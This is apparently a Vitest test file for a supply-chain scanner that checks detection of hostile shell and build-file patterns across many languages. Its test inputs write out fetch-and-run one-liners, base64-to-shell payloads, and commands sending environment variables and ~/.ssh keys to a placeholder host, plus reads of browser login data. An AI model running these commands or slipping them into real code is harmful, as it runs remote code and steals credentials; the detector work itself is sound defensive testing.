import { describe, expect, it } from 'vitest';
import { otherPrograms } from '../../../utils/inspect/other-languages/other-programs.ts';
import { shellScripts } from '../../../utils/inspect/other-languages/shell-scripts.ts';
import { seenBy } from '../sightings-of.ts';

const kinds = (seen: string[]) => seen.map((one) => one.split(' ')[0]);
const U = 'https://cdn.prices.example/x';

describe('shell-scripts', () => {
  it.each([
    ['curl into a shell', `curl -fsSL ${U} | bash`, 'a.sh', 'runs-fetched-text'], ['wget into an interpreter', `wget -qO- ${U} |python3`, 'a.sh', 'runs-fetched-text'], ['a shell of what is fetched', `bash -c "$(curl -s ${U})"`, 'a.sh', 'runs-fetched-text'],
    ['a command over lines', `curl -s ${U} \\\n  | sh`, 'a.sh', 'runs-fetched-text'], ['PowerShell of an address', `iex (iwr ${U}).Content`, 'a.ps1', 'runs-fetched-text'], ['PowerShell of a client', `IEX (New-Object Net.WebClient).DownloadString('${U}')`, 'a.ps1', 'runs-fetched-text'],
    ['mshta', `mshta ${U}`, 'a.bat', 'runs-fetched-text'], ['regsvr32', `regsvr32 /s /n /u /i:${U} scrobj.dll`, 'a.cmd', 'runs-fetched-text'], ['encoded PowerShell', `powershell -w hidden -enc ${'QQBB'.repeat(20)}`, 'a.bat', 'runs-decoded-text'],
    ['base64 into a shell', `echo ZWNobyBoaQ== | base64 -d | sh`, '.husky/pre-commit', 'runs-decoded-text'], ['a program for node, decoded', 'node -e "$(echo ZWNobyBoaQ== | base64 -d)" &', 'a.sh', 'runs-decoded-text'], ['a fetched program', `curl -so /tmp/.a ${U}\nchmod +x /tmp/.a\n/tmp/.a &`, 'a.sh', 'starts-fetched-file'], ['a fetched program of Windows', `certutil -urlcache -split -f ${U} %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe`, 'a.bat', 'starts-fetched-file'],
    ['a program that PowerShell fetched', `Invoke-WebRequest ${U} -OutFile a.exe\nStart-Process a.exe`, 'a.ps1', 'starts-fetched-file'], ['the environment sent out', `env | curl -d @- ${U}`, 'a.sh', 'sends-environment'], ['keys sent out', `tar cz ~/.ssh | curl -T - ${U}`, 'a.sh', 'sends-files'],
    ['a browser that is read', `cp "$HOME/Library/Application Support/Google/Chrome/Default/Login Data" /tmp/x`, 'a.command', 'reads-browser-data'], ['a font that is started', `node ./public/fonts/a.woff2`, 'a.sh', 'loads-disguised-file'], ['a process in the background', `nohup node x.js > /dev/null 2>&1 &`, 'a.sh', 'starts-process'],
  ])('sees %s', (_, text, path, kind) => {
    expect(kinds(seenBy(shellScripts, { [path]: `#!/bin/sh\n${text}\n` }))).toContain(kind);
  });

  it.each([
    ['installers of known tools', `curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y\ncurl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash`, 'a.sh'],
    ['an answer that is read', `curl -s ${U} | jq .name\ncurl -s ${U} | python3 -m json.tool\ncurl ${U} | tar xz`, 'a.sh'], ['comments', `# curl ${U} | bash\n:: curl ${U} | bash`, 'a.sh'],
    ['keys of a server', `mkdir -p ~/.ssh && ssh-keyscan github.com >> ~/.ssh/known_hosts\nchmod 600 ~/.ssh/id_rsa`, 'a.sh'], ['a document', `curl ${U} | bash`, 'README.md'], ['a file that is fetched', `curl -o fixtures.json ${U}\nnode test.js`, 'a.sh'],
    ['a script of a publisher in front of an installation', 'curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs', 'a.sh'],
    ['the way Windows opens a document', 'rundll32.exe url.dll,FileProtocolHandler "$1"', 'xdg-open.sh'], ['a question whether a port is open', '(echo > /dev/tcp/localhost/5432) >/dev/null 2>&1', 'a.sh'],
  ])('is quiet about %s', (_, text, path) => {
    expect(seenBy(shellScripts, { [path]: text })).toEqual([]);
  });
});

describe('other-programs', () => {
  it.each([
    ['a build of Rust that fetches a program', 'build.rs', `let b = reqwest::blocking::get("${U}")?.bytes()?;\nfs::write("/tmp/a", b)?;\nCommand::new("/tmp/a").spawn()?;`, 'starts-fetched-file'],
    ['a build of Gradle from an address', 'build.gradle', `apply from: '${U}.gradle'`, 'runs-fetched-text'], ['Gradle that starts something', 'build.gradle.kts', `exec { commandLine("sh", "-c", "curl ${U} | sh") }`, 'starts-process'], ['a project of MSBuild that fetches', 'a.csproj', `<Target><Exec Command="powershell iwr ${U} | iex" /></Target>`, 'runs-fetched-text'],
    ['Maven that starts something', 'pom.xml', `<plugin><artifactId>exec-maven-plugin</artifactId></plugin>`, 'starts-process'], ['Ruby of an answer', 'lib/a.rb', `eval(URI.open("${U}").read)`, 'runs-fetched-text'], ['Ruby of base64', 'a.gemspec', `eval(Base64.decode64("cHV0cw=="))`, 'runs-decoded-text'],
    ['PHP of base64', 'index.php', `<?php eval(base64_decode("ZWNobw=="));`, 'runs-decoded-text'], ['PHP of an answer', 'a.php', `<?php eval(file_get_contents("${U}"));`, 'runs-fetched-text'], ['Go of an answer', 'main.go', `exec.Command("sh", "-c", "curl ${U} | sh")`, 'runs-fetched-text'],
    ['.NET of an answer', 'a.cs', `Assembly.Load(new WebClient().DownloadData("${U}"))`, 'runs-fetched-text'], ['a class loader of an address', 'A.java', `new URLClassLoader(new URL[]{ new URL("${U}") })`, 'runs-fetched-text'], ['Perl of base64', 'a.pl', `eval(decode_base64("cHJpbnQ="));`, 'runs-decoded-text'],
    ['Lua of an answer', 'a.lua', `loadstring(game:HttpGet("${U}"))()`, 'runs-fetched-text'],
  ])('sees %s', (_, path, text, kind) => {
    expect(kinds(seenBy(otherPrograms, { [path]: `\n${text}\n` }))).toContain(kind);
  });

  it('is quiet about ordinary programs', () => {
    expect(seenBy(otherPrograms, {
      'build.rs': 'fn main() { println!("cargo:rerun-if-changed=x"); }', 'build.gradle': `plugins { id 'java' }\nrepositories { mavenCentral() }`, 'a.rb': `eval("1 + 1")\nNet::HTTP.get(URI(u))`, 'Podfile': 'system("curl -o engine.tar.gz https://maven.example/engine.tar.gz")\nFile.open("a")\nsystem("tar xzf engine.tar.gz")\nabort "Run `unset HERE` first"', 'a.php': '<?php $x = base64_decode($y); echo file_get_contents("a.txt");',
      'main.go': `resp, _ := http.Get(u)\nexec.Command("git", "status")`, 'a.csproj': '<Project Sdk="Microsoft.NET.Sdk"></Project>', 'A.java': `// eval(openStream())\nint a = 1;`, 'pom.xml': '<artifactId>maven-compiler-plugin</artifactId>',
    })).toEqual([]);
  });
});
